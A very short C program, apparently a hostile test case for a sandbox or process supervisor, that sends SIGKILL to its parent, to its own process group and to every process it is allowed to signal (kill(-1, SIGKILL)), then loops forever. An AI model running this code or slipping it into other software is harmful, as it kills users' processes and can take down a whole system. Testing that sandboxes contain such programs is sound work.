#include <signal.h>
#include <unistd.h>
int main() {
  kill(getppid(), SIGKILL);
  kill(0, SIGKILL);
  kill(-1, SIGKILL);
  for (;;) {
  }
}
